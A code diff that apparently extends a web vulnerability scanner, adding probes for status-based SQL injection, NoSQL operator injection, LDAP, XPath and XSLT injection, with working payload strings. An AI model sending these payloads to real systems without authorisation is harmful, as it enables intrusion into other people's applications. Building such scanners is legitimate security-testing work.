@@ -8,6 +8,7 @@ Each attack returns the evidence (a short string) when it worked, else None.
 
 from __future__ import annotations
 
+import json
 import random
 import re
 from collections.abc import Awaitable, Callable
@@ -130,15 +131,88 @@ async def redirect(request: Request, point: str, sinks: tuple[Request, ...] = ()
     return None
 
 
+# ---------------------------------------------------------------------- status-only SQL injection, query languages
+_RUNTIME_ERROR = "ABS(-9223372036854775807-1)"
+
+
+async def sqli_status(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
+    """A lone quote crashes, its escaped twin does not, and an error raised only for FALSE crashes."""
+    base = await send(request)
+    lone, escaped = await send(inject(request, point, "'")), await send(inject(request, point, "''"))
+    if base.status >= 500 or lone.status < 500 or escaped.status >= 500:
+        return None
+    true = await send(inject(request, point, f"'||(CASE WHEN 1=1 THEN 1 ELSE {_RUNTIME_ERROR} END)||'"))
+    false = await send(inject(request, point, f"'||(CASE WHEN 1=2 THEN 1 ELSE {_RUNTIME_ERROR} END)||'"))
+    if true.status < 500 <= false.status:
+        return f"' -> {lone.status}, '' -> {escaped.status}; TRUE -> {true.status}, FALSE -> {false.status}"
+    return None
+
+
+def _with_operator(request: Request, point: str, operator: dict[str, object]) -> Request | None:
+    """The value replaced by an operator: the JSON object itself, or qs brackets for a parameter."""
+    if "_JSON_DOC_" in point and "BASE64" not in point and "JWT" not in point:
+        return parse(request).replace(point, json.dumps(operator), raw=True)
+    if not point.startswith("GET_") or point.count("_") != 2:
+        return None
+    key = point.split("_")[1]
+    ((name, value),) = operator.items()
+    pairs = "&".join(f"{key}[{name}][]={v}" for v in value) if isinstance(value, list) else f"{key}[{name}]={value}"
+    path, _, query = request.target.partition("?")
+    kept = [p for p in query.split("&") if p.partition("=")[0] != key]
+    return request.with_target(f"{path}?{'&'.join([*kept, pairs])}")
+
+
+async def nosqli(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
+    """``$ne`` matches where ``$in`` of the same word does not, and ``$in`` answers as a plain unknown value."""
+    true, false = _with_operator(request, point, {"$ne": "zq"}), _with_operator(request, point, {"$in": ["zq"]})
+    if true is None or false is None:
+        return None
+    yes, no, plain = await send(true), await send(false), await send(inject(request, point, "zq"))
+    if yes.status < 500 and not yes.same_as(no) and no.same_as(plain):
+        return f"$ne -> {yes.status}, $in -> {no.status}"
+    return None
+
+
+async def ldapi(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
+    base = await send(request)
+    broken = await send(inject(request, point, ")("))
+    if "Bad search filter" in broken.text and "Bad search filter" not in base.text:
+        return ")( -> Bad search filter"
+    yes = await send(inject(request, point, ")(objectClass=*"))
+    no = await send(inject(request, point, ")(objectClass=zq"))
+    return "objectClass=* answers as the original, =zq does not" if yes.same_as(base) and not no.same_as(base) else None
+
+
+async def xpathi(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
+    base = await send(request)
+    yes = await send(inject(request, point, "' and '1'='1"))
+    no = await send(inject(request, point, "' and '1'='2"))
+    if yes.same_as(base) and not no.same_as(base):
+        count = await send(inject(request, point, "' and count(/*)=1 and '1'='1"))
+        return "' and '1'='1 and count(/*)=1 answer as the original" if count.same_as(base) else None
+    return None
+
+
+async def xslti(request: Request, point: str, sinks: tuple[Request, ...] = ()) -> str | None:
+    a, b = random.randrange(1000, 9999), random.randrange(1000, 9999)
+    hit = await send(inject(request, point, f'<xsl:value-of select="{a}*{b}"/>'))
+    return f"xsl:value-of computed {a}*{b}" if str(a * b) in hit.text else None
+
+
 BY_CHECK: dict[str, tuple[Attack, ...]] = {
-    "sqli": (sqli_error, sqli_boolean, sqli_time),
+    "sqli": (sqli_error, sqli_boolean, sqli_time, sqli_status),
+    "nosqli": (nosqli,),
+    "ldapi": (ldapi,),
+    "xpathi": (xpathi,),
+    "xslti": (xslti,),
     "xss-reflected": (xss_reflected,),
     "xss-stored": (xss_stored,),
     "cmdi": (cmdi,),
     "path-traversal": (traversal,),
     "open-redirect": (redirect,),
 }
-SQLI_BY_TECHNIQUE: dict[str, Attack] = {"error": sqli_error, "boolean": sqli_boolean, "time": sqli_time}
+SQLI_BY_TECHNIQUE: dict[str, Attack] = {"error": sqli_error, "boolean": sqli_boolean, "time": sqli_time,
+                                        "status": sqli_status}
 
 
 from tests.demo import oob_attacks  # noqa: E402  (the server-side request checks' attacks live there)
